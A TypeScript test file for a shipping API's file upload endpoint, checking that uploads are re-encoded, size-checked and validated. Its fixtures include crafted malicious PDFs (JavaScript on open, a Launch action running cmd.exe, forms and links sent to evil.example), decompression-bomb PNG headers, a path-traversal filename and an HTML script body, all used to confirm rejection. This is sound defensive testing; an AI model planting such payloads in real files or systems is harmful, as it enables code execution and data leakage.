import { crc32, deflateSync } from 'node:zlib';
import sharp from 'sharp';
import { type Client, refusalOf } from '../support/client.js';
import { bench, sql } from '../support/bench.js';
import { keyClient, newKey, newOrganization, type TestOrganization } from '../support/organization.js';
import { createLabelledShipment } from '../support/shipments.js';

const PDF = Buffer.from('%PDF-1.4\n%%EOF\n');

const chunk = (type: string, data: Buffer): Buffer => {
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const [length, checksum] = [Buffer.alloc(4), Buffer.alloc(4)];
  length.writeUInt32BE(data.length);
  checksum.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, checksum]);
};

/** A PNG with the header of a large image and almost no pixels. */
function pngHeader(of: { side: number; depth: number; color: number; isInterlaced: boolean }): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(of.side, 0);
  header.writeUInt32BE(of.side, 4);
  header.set([of.depth, of.color, 0, 0, of.isInterlaced ? 1 : 0], 8);
  return Buffer.concat([
    Buffer.from('89504e470d0a1a0a', 'hex'),
    chunk('IHDR', header),
    chunk('IDAT', deflateSync(Buffer.alloc(100))),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

describe('POST /v1/files', () => {
  let organization: TestOrganization;

  beforeAll(async () => {
    organization = await newOrganization({ testBalance: '1000.00' });
  });

  const headersOf = (client: Client) => (client as any).credential as Record<string, string>;
  const send = async (content: Uint8Array, name = 'factura.pdf', client = organization.test) => {
    const form = new FormData();
    form.append('file', new Blob([content as never]), name);
    const response = await fetch(`${bench.baseUrl}/v1/files`, {
      method: 'POST',
      body: form,
      headers: headersOf(client),
    });
    const body = (await response.json()) as any;
    return { status: response.status, data: body.data, error: body.error };
  };
  const contentOf = (id: string, client = organization.test) =>
    fetch(`${bench.baseUrl}/v1/files/${id}/content`, { headers: headersOf(client) });

  it('stores a PDF unchanged, and returns it only to its organization, as an attachment', async () => {
    const { status, data } = await send(PDF, '../../Factura N° 1.pdf');
    expect([status, data]).toEqual([
      201,
      {
        id: expect.stringMatching(/^fil_/),
        name: 'Factura N° 1.pdf',
        contentType: 'application/pdf',
        size: PDF.length,
      },
    ]);
    expect((await organization.test.get(`/v1/files/${data.id}`)).data).toEqual(data);

    const response = await contentOf(data.id);
    expect(Buffer.from(await response.arrayBuffer())).toEqual(PDF);
    expect(response.headers.get('content-disposition')).toMatch(/^attachment/);
    const others = [(await newOrganization()).test, organization.live];
    for (const other of others) {
      expect((await other.get(`/v1/files/${data.id}`)).status).toBe(404);
      expect((await contentOf(data.id, other)).status).toBe(404);
    }
    expect((await fetch(`${bench.baseUrl}/files/private-${data.id}`)).status).toBe(404);
  });

  it.each(['jpeg', 'png'] as const)(
    'writes a %s anew, whatever it is called and without what cameras add',
    async (format) => {
      const photograph = await sharp({ create: { width: 40, height: 20, channels: 3, background: '#0b6e5f' } })
        .withExif({ IFD0: { Copyright: 'a secret place' } })
        .toFormat(format)
        .toBuffer();
      const { status, data } = await send(Buffer.concat([photograph, Buffer.from('appended')]), 'foto.txt');
      expect([status, data.contentType]).toEqual([201, `image/${format}`]);

      const kept = Buffer.from(await (await contentOf(data.id)).arrayBuffer());
      expect(kept.length).toBe(data.size);
      expect(kept.includes('secret place') || kept.includes('appended')).toBe(false);
      expect(await sharp(kept).metadata()).toMatchObject({ width: 40, height: 20, format });
    },
  );

  it.each([
    ['an interlaced PNG, 16 bit RGBA', pngHeader({ side: 10_900, depth: 16, color: 6, isInterlaced: true }), 32],
    ['an interlaced PNG, 8 bit RGB', pngHeader({ side: 3_400, depth: 8, color: 2, isInterlaced: true }), 32],
    ['an interlaced PNG, 1 bit grey', pngHeader({ side: 5_800, depth: 1, color: 0, isInterlaced: true }), 32],
    ['a PNG, 16 bit RGBA', pngHeader({ side: 4_100, depth: 16, color: 6, isInterlaced: false }), 128],
    ['a PNG, 8 bit RGB', pngHeader({ side: 6_700, depth: 8, color: 2, isInterlaced: false }), 128],
    ['a PNG, 8 bit grey', pngHeader({ side: 11_600, depth: 8, color: 0, isInterlaced: false }), 128],
  ])('rejects %s, whose decoded size is too large, by its header', async (_, content, mib) => {
    const { status, error } = await send(content, 'foto.png');
    expect([status, error.code]).toEqual([400, 'VALIDATION_ERROR']);
    expect(error.details.errors.file).toEqual([
      expect.stringMatching(new RegExp(`^is too large: .*may take ${mib} MiB`)),
    ]);
  });

  it('measures a progressive JPEG as one that is decoded as a whole', async () => {
    const jpeg = (progressive: boolean) =>
      sharp({ create: { width: 3_400, height: 3_400, channels: 3, background: '#0b6e5f' } })
        .jpeg({ progressive })
        .toBuffer();
    const { status, error } = await send(await jpeg(true), 'foto.jpg');
    expect([status, error.code, error.details.errors.file]).toEqual([
      400,
      'VALIDATION_ERROR',
      [expect.stringMatching(/^is too large: 3400 × 3400 pixels/)],
    ]);
    expect((await send(await jpeg(false), 'foto.jpg')).status).toBe(201);
  });

  it.each([
    [PDF, 'x.html', 'x.html.pdf'],
    [PDF, 'Factura.PDF', 'Factura.PDF'],
    [PDF, 'factura', 'factura.pdf'],
    [PDF, 'factura.pdf.exe', 'factura.pdf.exe.pdf'],
    [PDF, 'foto.jpg', 'foto.jpg.pdf'],
    [PDF, 'x.svg', 'x.svg.pdf'],
  ])('ends the name of a download by the kind of the file (%#)', async (content, name, expected) => {
    const { data } = await send(content, name);
    const response = await contentOf(data.id);
    expect(response.headers.get('content-disposition')).toBe(`attachment; filename*=UTF-8''${expected}`);
  });

  const pdfWith = (object: string) => Buffer.from(`%PDF-1.4\n1 0 obj\n${object}\nendobj\n%%EOF\n`, 'latin1');
  const opening = (object: string) =>
    pdfWith(
      `<< /OpenAction 7 0 R >>\nendobj\n7 0 obj\n${object}\nendobj\n17 0 obj\n<< /S /URI /URI (https://example.com) >>`,
    );
  const inStream = (object: string) =>
    Buffer.concat([
      Buffer.from('%PDF-1.5\n1 0 obj\n<</Type/ObjStm/N 1/First 4/Filter/FlateDecode>>stream\r\n'),
      deflateSync(`2 0 ${object}`),
      Buffer.from('\nendstream\nendobj\n%%EOF\n'),
    ]);
  it.each([
    ['a script at opening', pdfWith('<< /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>')],
    ['an escaped name', pdfWith('<< /S /J#61vaScript /JS (app.alert(1)) >>')],
    ['a program', pdfWith('<< /A << /S /Launch /F (cmd.exe) >> >>')],
    ['a form that is sent', pdfWith('<< /A << /S /SubmitForm /F (https://evil.example) >> >>')],
    ['an address at opening', pdfWith('<< /OpenAction << /S /URI /URI (https://evil.example) >> >>')],
    ['an address at opening, in another object', opening('<< /S /URI /URI (https://evil.example) >>')],
    [
      'an address at opening, in an object stream',
      Buffer.concat([pdfWith('<< /OpenAction 2 0 R >>'), inStream('<< /S /URI /URI (https://evil.example) >>')]),
    ],
    ['a script in an object stream', inStream('<< /S /JavaScript /JS (app.alert(1)) >>')],
    ['an object stream that cannot be read', pdfWith('<< /Type /ObjStm >>\nstream\nABC\nendstream')],
    ['encryption', pdfWith('<< /Encrypt 5 0 R >>')],
  ])('rejects a PDF with %s', async (_, content) => {
    const { status, error } = await send(content);
    expect([status, error.code, Object.keys(error.details.errors)]).toEqual([400, 'VALIDATION_ERROR', ['file']]);
  });

  it.each([
    ['a place to open at', pdfWith('<< /OpenAction [3 0 R /FitH null] >>')],
    ['a place to open at, in another object', opening('[3 0 R /FitH null]')],
    ['links', pdfWith('<< /A << /S /URI /URI (https://verificacfdi.facturaelectronica.sat.gob.mx) >> >>')],
    ['objects in a stream', inStream('<< /Type /Catalog /Pages 3 0 R >>')],
  ])('stores a PDF with %s', async (_, content) => {
    expect((await send(content)).status).toBe(201);
  });

  it('rejects other file types, damaged or too large files, other bodies, and forms without a file', async () => {
    const html = await send(Buffer.from('<script>alert(1)</script>'), 'factura.pdf');
    const broken = await send(Buffer.from([0xff, 0xd8, 0xff, 0xe0, 1, 2, 3]), 'foto.jpg');
    for (const { status, error } of [html, broken])
      expect([status, error.code, Object.keys(error.details.errors)]).toEqual([400, 'VALIDATION_ERROR', ['file']]);
    const long = await send(Buffer.concat([PDF, Buffer.alloc(10 * 1024 * 1024)]));
    expect([long.status, long.error.code]).toEqual([413, 'VALIDATION_ERROR']);
    expect(refusalOf(await organization.test.post('/v1/files', {})).slice(0, 2)).toEqual([415, 'VALIDATION_ERROR']);
    const empty = await fetch(`${bench.baseUrl}/v1/files`, {
      method: 'POST',
      body: new FormData(),
      headers: headersOf(organization.test),
    });
    expect(empty.status).toBe(400);
  });

  it('needs a scope of claims or disputes', async () => {
    const reader = keyClient(await newKey(organization.id, { scopes: ['shipments:read'] }));
    expect((await send(PDF, 'a.pdf', reader)).error.code).toBe('INSUFFICIENT_SCOPE');
  });

  it('gives ids that a claim takes, ten at most and of the same organization, until the last day of the carrier', async () => {
    const insured = { requestInsurance: true, declaredValue: 900 };
    const { id } = (await createLabelledShipment(organization.test, insured)).shipment;
    const file = (await send(PDF)).data.id as string;
    const claim = (fileIds: string[], reason = 'LOSS') =>
      organization.test.post('/v1/insurance/claims', { shipmentId: id, reason, amount: 10, description: 'x', fileIds });

    for (const ids of [['fil_unknown'], Array.from({ length: 11 }, () => file)])
      expect((await claim(ids)).error).toMatchObject({ code: 'VALIDATION_ERROR' });
    const { claimDeadlines } = (await organization.test.get(`/v1/shipments/${id}`)).data;
    expect(claimDeadlines).toEqual({
      damage: expect.stringMatching(/^\d{4}-\d\d-\d\d$/),
      loss: expect.stringMatching(/^\d{4}-\d\d-\d\d$/),
    });
    await sql("UPDATE shipment_events SET occurred_at = now() - interval '2 years' WHERE shipment_id = $1", [id]);
    const late = await claim([file]);
    expect(refusalOf(late)).toEqual([400, 'INVALID_INPUT', 'CLAIM_TOO_LATE']);
    expect(late.error.details['date']).toMatch(/^\d{4}-\d\d-\d\d$/);
    // The parcel has not arrived: its damage is not late.
    const { status, data } = await claim([file, file], 'DAMAGE');
    expect([status, data.fileIds]).toEqual([201, [file]]);
  });
});
